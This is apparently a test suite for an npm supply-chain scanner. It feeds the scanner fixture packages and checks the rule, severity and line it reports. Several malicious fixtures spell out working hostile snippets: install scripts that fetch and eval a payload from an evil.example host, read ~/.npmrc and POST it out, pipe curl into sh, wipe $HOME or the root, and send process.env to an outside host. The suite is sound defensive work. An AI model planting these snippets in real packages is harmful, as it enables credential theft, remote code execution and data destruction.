import { describe, expect, it } from 'vitest'
import { atLeast } from '../../src/model/finding.js'
import { npmRules } from '../../src/npm/index.js'
import { OBFUSCATED, judge, ofRule, pkgJson, worst } from './helpers.js'

const b64 = (s: string) => Buffer.from(s).toString('base64')
const ROOT = 'node_modules/evil-pkg'

describe('malicious shapes', () => {
  it('install script → a.js → b.js with a decoded eval: the chain spans both files', () => {
    const findings = judge({
      root: ROOT,
      files: {
        'package.json': pkgJson({ postinstall: 'node a.js' }),
        'a.js': `const https = require('https')\nconst next = require('./lib/b')\nhttps.get('https://cdn.evil.example/stage2', (r) => next(r))\n`,
        'lib/b.js': `module.exports = function (res) {\n  let body = ''\n  res.on('data', (c) => (body += c))\n  res.on('end', () => { const src = Buffer.from(body, 'base64').toString(); eval(src) })\n}\n`,
      },
    })
    const chain = ofRule(findings, 'npm/install-chain')
    expect(chain).toHaveLength(1)
    expect(chain[0]?.severity).toBe('high')
    expect(chain[0]?.path).toBe(`${ROOT}/lib/b.js`)
    expect(chain[0]?.line).toBe(4)
    expect(chain[0]?.evidence).toContain(`${ROOT}/package.json:5: trigger: "postinstall": node a.js`)
    expect(chain[0]?.evidence).toContain(`${ROOT}/a.js:3: network https.get → https://cdn.evil.example/stage2`)
    expect(chain[0]?.evidence).toContain(`${ROOT}/lib/b.js:4: eval of base64 data`)
    expect(ofRule(findings, 'npm/dynamic-code-execution')[0]).toMatchObject({ severity: 'high', path: `${ROOT}/lib/b.js`, line: 4 })
    expect(ofRule(findings, 'npm/install-time-capability')[0]).toMatchObject({ severity: 'medium', path: `${ROOT}/a.js`, line: 3 })
  })

  it('credential theft with obfuscation at install time is critical', () => {
    const findings = judge({
      root: ROOT,
      files: {
        'package.json': pkgJson({ preinstall: 'node setup.js' }),
        'setup.js': `${OBFUSCATED}const fs = require('fs'), os = require('os')\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')\nrequire('https').request({ hostname: 'collector.example', method: 'POST' }).end(t)\n`,
      },
    })
    expect(worst(findings)).toBe('critical')
    const chain = ofRule(findings, 'npm/install-chain')[0]
    expect(chain?.evidence).toMatch(/setup\.js:7: reads \.npmrc/)
    expect(chain?.evidence).toMatch(/obfuscated: string array of 20 literals/)
    expect(ofRule(findings, 'npm/credential-exfiltration')[0]).toMatchObject({ severity: 'high', line: 7 })
    expect(ofRule(findings, 'npm/obfuscated-code')[0]).toMatchObject({ severity: 'medium', path: `${ROOT}/setup.js` })
  })

  it('obfuscated install code that hides its modules behind string lookups is still a chain', () => {
    const findings = judge({ root: ROOT, files: { 'package.json': pkgJson({ postinstall: 'node index.js' }), 'index.js': OBFUSCATED } })
    const chain = ofRule(findings, 'npm/install-chain')[0]
    expect(chain?.severity).toBe('high')
    expect(chain?.evidence).toContain('hidden capability: loads a module by a computed name')
  })

  it('node -e with a base64 payload: decoded execution at install time, reported at the script line', () => {
    const payload = `require('child_process').exec('curl https://x.example/a | sh')`
    const findings = judge({ root: ROOT, files: { 'package.json': pkgJson({ install: `node -e "eval(Buffer.from('${b64(payload)}','base64').toString())"` }) } })
    const chain = ofRule(findings, 'npm/install-chain')[0]
    expect(chain).toMatchObject({ severity: 'high', path: `${ROOT}/package.json`, line: 5 })
    expect(chain?.message).toContain('uses network, process execution')
    expect(chain?.evidence).toContain('child_process.exec')
    expect(ofRule(findings, 'npm/dynamic-code-execution')[0]).toMatchObject({ severity: 'high', path: `${ROOT}/package.json`, line: 5 })
  })

  it('char-code and reversed-string decoders in a renamed install helper', () => {
    const codes = [...`process.exit(0)`].map((c) => c.charCodeAt(0)).join(',')
    const findings = judge({
      root: ROOT,
      files: {
        'package.json': pkgJson({ postinstall: 'node ./tools/x' }),
        'tools/x.js': `const q = require('child_process')\nconst zz = String.fromCharCode(${codes})\nq.execSync('id')\nconst y = "gol.elosnoc".split('').reverse().join('')\nnew Function(zz + y)()\n`,
      },
    })
    const chain = ofRule(findings, 'npm/install-chain')[0]
    expect(chain?.severity).toBe('high')
    expect(chain?.evidence).toMatch(/tools\/x\.js:5: Function of (char-codes|reversed-string) data/)
  })

  it('curl | sh in an install script is a remote script install', () => {
    const findings = judge({ root: ROOT, files: { 'package.json': pkgJson({ postinstall: 'curl -s https://evil.example/i.sh | sh' }) } })
    expect(ofRule(findings, 'npm/remote-script-install')[0]).toMatchObject({ severity: 'high', line: 5 })
    expect(ofRule(findings, 'npm/install-script')[0]?.severity).toBe('low')
  })

  it('an install script or a command run from code that deletes the home directory or the root is a destructive payload', () => {
    const wiper = judge({ root: ROOT, files: { 'package.json': pkgJson({ preinstall: 'node -v >/dev/null && rm -rf --no-preserve-root "$HOME"/* || true' }) } })
    expect(ofRule(wiper, 'npm/destructive-payload')[0]).toMatchObject({ severity: 'high', line: 5 })
    const fromCode = judge({ root: ROOT, files: { 'package.json': pkgJson({ postinstall: 'node i.js' }), 'i.js': `require('child_process').execSync('find / -xdev -delete')
` } })
    expect(ofRule(fromCode, 'npm/destructive-payload').map((f) => f.line)).toEqual([1])
    // its own build output, and a home it set itself, are its own
    const cleaner = judge({ root: ROOT, files: { 'package.json': pkgJson({ postinstall: 'rm -rf ./dist node_modules/.cache && export HOME=/tmp/h && rm -rf $HOME' }) } })
    expect(ofRule(cleaner, 'npm/destructive-payload')).toEqual([])
    // an assignment before the command is not: `$HOME` is expanded before it takes effect
    const prefixed = judge({ root: ROOT, files: { 'package.json': pkgJson({ postinstall: 'HOME=/tmp/h rm -rf $HOME' }) } })
    expect(ofRule(prefixed, 'npm/destructive-payload')).toHaveLength(1)
  })

  it('runtime credential + network in one source file is high; secret variables alone are low', () => {
    const thief = judge({ root: ROOT, files: { 'package.json': pkgJson({}), 'index.js': `const data = JSON.stringify(process.env)\nfetch('https://log.example/c', { method: 'POST', body: data })\n` } })
    expect(ofRule(thief, 'npm/credential-exfiltration')[0]).toMatchObject({ severity: 'high', line: 1 })
    const client = judge({ root: ROOT, files: { 'package.json': pkgJson({}), 'index.js': `const token = process.env.GITHUB_TOKEN\nfetch('https://api.github.com/user', { headers: { authorization: token } })\n` } })
    expect(ofRule(client, 'npm/credential-exfiltration')[0]?.severity).toBe('low')
  })
})

describe('benign shapes stay quiet', () => {
  it('an esbuild-like installer (download + exec at install time) is at most medium', () => {
    const install = `"use strict";
const fs = require("fs"), os = require("os"), path = require("path"), zlib = require("zlib"), https = require("https"), child_process = require("child_process")
const versionFromPackageJSON = require(path.join(__dirname, "package.json")).version
const toPath = path.join(__dirname, "bin", "esbuild")
function fetch(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      if ((res.statusCode === 301 || res.statusCode === 302) && res.headers.location) return fetch(res.headers.location).then(resolve, reject)
      const chunks = []
      res.on("data", (chunk) => chunks.push(chunk))
      res.on("end", () => resolve(Buffer.concat(chunks)))
    }).on("error", reject)
  })
}
function extractFileFromTarGzip(buffer, subpath) {
  buffer = zlib.unzipSync(buffer)
  return buffer.subarray(512)
}
function validateBinaryVersion(...command) {
  command.push("--version")
  const stdout = child_process.execFileSync(command.shift(), command, { stdio: "pipe" }).toString().trim()
  if (stdout !== versionFromPackageJSON) throw new Error("Expected " + JSON.stringify(versionFromPackageJSON))
}
async function downloadDirectlyFromNPM(pkg, subpath, binPath) {
  const url = \`https://registry.npmjs.org/\${pkg}/-/\${pkg.replace("@esbuild/", "")}-\${versionFromPackageJSON}.tgz\`
  fs.writeFileSync(binPath, extractFileFromTarGzip(await fetch(url), subpath))
  fs.chmodSync(binPath, 493)
}
async function checkAndPreparePackage() {
  const { pkg, subpath } = { pkg: "@esbuild/" + os.platform() + "-" + os.arch(), subpath: "bin/esbuild" }
  try { require.resolve(\`\${pkg}/\${subpath}\`) } catch { await downloadDirectlyFromNPM(pkg, subpath, toPath) }
}
checkAndPreparePackage().then(() => validateBinaryVersion(toPath))
`
    const findings = judge({ root: 'node_modules/esbuild', files: { 'package.json': pkgJson({ postinstall: 'node install.js' }, { bin: { esbuild: 'bin/esbuild' } }), 'install.js': install, 'lib/main.js': `module.exports = require('child_process')` }, binaries: [{ path: 'bin/esbuild', type: 'elf' }] })
    expect(atLeast(worst(findings) as never, 'high')).toBe(false)
    expect(ofRule(findings, 'npm/install-time-capability')[0]).toMatchObject({ severity: 'medium', path: 'node_modules/esbuild/install.js' })
    expect(ofRule(findings, 'npm/install-chain')).toEqual([])
    expect(ofRule(findings, 'npm/bundled-executable')[0]?.severity).toBe('info')
  })

  it('a node-gyp package: install-script info only', () => {
    const findings = judge({ root: 'node_modules/bufferutil', files: { 'package.json': pkgJson({ install: 'node-gyp-build' }), 'binding.gyp': '{}', 'index.js': `module.exports = require('node-gyp-build')(__dirname)` }, binaries: [{ path: 'prebuilds/linux-x64/bufferutil.node', type: 'elf' }] })
    expect(findings.map((f) => `${f.ruleId}:${f.severity}`).sort()).toEqual(['npm/bundled-executable:info', 'npm/install-script:info'])
    const implicit = judge({ root: 'node_modules/native', files: { 'package.json': pkgJson({}), 'binding.gyp': '{}' } })
    expect(implicit.map((f) => `${f.ruleId}:${f.severity}:${f.path ?? ''}`)).toEqual(['npm/install-script:info:node_modules/native/binding.gyp'])
  })

  it('a webpack-minified bundle in dist/ with the global-object idiom raises nothing', () => {
    const bundle = `!function(e,t){"object"==typeof exports?module.exports=t():e.lib=t()}(this,function(){var e=function(){return this}()||new Function("return this")();${'var n=function(t){return e[t]};'.repeat(300)}return{get:n,run:function(t){return e.setTimeout(t,0)}}});`
    const findings = judge({ root: 'node_modules/lib', files: { 'package.json': pkgJson({}, { main: 'dist/lib.min.js' }), 'dist/lib.min.js': bundle } })
    expect(findings).toEqual([])
  })

  it('core-js-like postinstall banner and husky prepare stay low/info', () => {
    const banner = `var env = process.env; var ADBLOCK = is(env.ADBLOCK); var COLOR = is(env.npm_config_color); var SILENT = ['silent', 'error', 'warn'].indexOf(env.npm_config_loglevel) !== -1
function is(it) { return !!it && it !== '0' && it !== 'false' }
if (!ADBLOCK && !SILENT) console.log(COLOR ? '\\u001B[96mThank you for using core-js\\u001B[0m' : 'Thank you for using core-js')
`
    const findings = judge({ root: 'node_modules/core-js', files: { 'package.json': pkgJson({ postinstall: `node -e "try{require('./postinstall')}catch(e){}"`, prepare: 'husky install' }), 'postinstall.js': banner } })
    expect(findings.map((f) => `${f.ruleId}:${f.severity}`).sort()).toEqual(['npm/install-script:info', 'npm/install-script:low'])
  })

  it('plugin loaders and code generators are info at most', () => {
    const findings = judge({ root: 'node_modules/gen', files: { 'package.json': pkgJson({}), 'index.js': `const path = require('path')\nexports.load = (n) => require(path.join(__dirname, 'plugins', n))\nexports.compile = (src) => new Function('data', src)\n` } })
    expect(findings.every((f) => f.severity === 'info')).toBe(true)
    expect(ofRule(findings, 'npm/dynamic-code-execution')[0]?.line).toBe(3)
  })

  it('a stray executable outside prebuilt locations is low', () => {
    const findings = judge({ root: 'node_modules/left-pad', files: { 'package.json': pkgJson({}) }, binaries: [{ path: 'test/helper', type: 'elf' }, { path: 'x.wasm', type: 'wasm' }, { path: 'bin/tool', type: 'macho-fat' }] })
    expect(findings).toEqual([expect.objectContaining({ ruleId: 'npm/bundled-executable', severity: 'low', path: 'node_modules/left-pad/test/helper' })])
    expect(findings[0]?.message).toBe('fixture ships 2 native executables, 1 outside the usual prebuilt locations')
  })
})

describe('rule metadata', () => {
  it('every rule id a finding can carry is documented', () => {
    const ids = npmRules.map((r) => r.id)
    expect(ids).toEqual(['npm/install-script', 'npm/install-time-capability', 'npm/dynamic-code-execution', 'npm/obfuscated-code', 'npm/credential-exfiltration', 'npm/remote-script-install', 'npm/bundled-executable', 'npm/install-chain', 'npm/data-exfiltration', 'npm/remote-code-execution', 'npm/global-hook', 'npm/destructive-payload', 'npm/persistence-or-tampering', 'npm/remote-dependency'])
    for (const r of npmRules) expect(r.title && r.short && r.motivation && r.remediation).toBeTruthy()
  })
})

describe('prepare scripts', () => {
  it('run for the root project, not for registry dependencies', () => {
    const scripts = { prepare: 'node build.js' }
    const files = { 'package.json': pkgJson(scripts), 'build.js': `require('child_process').execSync(process.argv[2])` }
    const dep = judge({ root: 'node_modules/lib', files })
    expect(dep.map((f) => `${f.ruleId}:${f.severity}`)).toEqual(['npm/install-script:info'])
    expect(dep[0]?.message).toContain('when installed from git')
    const project = judge({ root: '', files })
    expect(project.map((f) => `${f.ruleId}:${f.severity}`).sort()).toEqual(['npm/install-script:low', 'npm/install-time-capability:medium'])
  })
})
